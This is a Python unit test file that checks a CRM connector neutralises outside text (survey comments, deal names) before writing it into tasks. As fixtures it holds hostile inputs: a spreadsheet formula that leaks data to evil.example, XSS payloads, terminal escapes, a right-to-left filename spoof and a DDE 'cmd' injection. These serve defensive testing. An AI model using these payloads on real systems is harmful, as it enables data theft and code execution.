"""Text that came from outside (a survey comment, a CRM field, a deal name) goes into tasks with
what a CRM, a spreadsheet export or a terminal would interpret neutralised, and the words kept:
no formula at the start of a cell, no HTML tag, no terminal escape, no right-to-left override,
no control character. One place does it (jobs/core/task_text.py), for every kind of task."""

from __future__ import annotations

import pytest

from connector.actions import CreateTask, UpdateRecord
from connector.mapping import TaskTemplate
from connector.model import RecordKind
from jobs.core.nps import NpsPolicy, plan_nps
from jobs.core.task_text import outside_text, render_task, without_controls
from tests.unit.test_nps_core import NOW, matched, nps_fieldmap, response, snapshot

HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click") '
           "<script>alert(1)</script> <img src=x onerror=alert(2)> "
           "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 "
           "invoice\u202egnp.exe \u2066isolated\u2069 bell\x07 nul\x00 end")
WORDS = ("HYPERLINK", "http://evil.example/?leak=", "Click", "script", "alert(1)", "img src=x onerror=alert(2)",
         "red", "link", "invoice", "gnp.exe", "isolated", "bell", "nul", "end")
INTERPRETED = ("<script", "<img", "</script", "\x1b", "\x07", "\x00", "\u202e", "\u2066", "\u2069")


def detractor_actions(comment: str, fieldmap=None):
    return plan_nps(matched(response(3, comment=comment)), snapshot(), fieldmap or nps_fieldmap(), NpsPolicy(), NOW)


def test_given_a_hostile_survey_comment_then_the_task_body_keeps_its_words_and_nothing_interpretable():
    [task] = [a for a in detractor_actions(HOSTILE) if isinstance(a, CreateTask)]
    body = task.spec.body
    for interpreted in INTERPRETED:
        assert interpreted not in body, repr(interpreted)
    for word in WORDS:
        assert word in body, word


def test_given_a_hostile_comment_then_the_comment_written_back_is_neutralised_the_same_way():
    [deal_update] = [a for a in detractor_actions(HOSTILE) if isinstance(a, UpdateRecord)
                     and a.update.kind is RecordKind.DEAL]
    written = deal_update.update.values["nps_comment"]
    assert written.startswith("'=HYPERLINK(")  # a spreadsheet reads it as text, not a formula
    assert not any(interpreted in written for interpreted in INTERPRETED)


@pytest.mark.parametrize("first", ["=", "+", "-", "@"])
def test_given_a_template_starting_with_outside_text_then_no_cell_starts_a_formula(first):
    template = TaskTemplate(subject="{deal_name}", body="{nps_comment}\nSee the deal.")
    subject, body = render_task(template, {"deal_name": f"{first}cmd|' /C calc'!A0", "nps_comment": f"{first}1+1"})
    assert subject == f"'{first}cmd|' /C calc'!A0" and body.startswith(f"'{first}1+1")


def test_given_ordinary_text_then_nothing_changes():
    text = "Café Ñandú - Q3 renewal: 9/10, great <3 and a < b; line one\nline two\tTabbed. مرحبا"
    assert outside_text(text) == text
    assert render_task(TaskTemplate(subject="Call {deal_name}", body="Note: {nps_comment}"),
                       {"deal_name": "Acme - EMEA", "nps_comment": text}) == ("Call Acme - EMEA", f"Note: {text}")


def test_given_terminal_escapes_then_the_command_line_strips_them_and_keeps_angle_brackets():
    assert without_controls("\x1b[2Jdeal <b>Acme</b>\u202e") == "deal <b>Acme</b>"
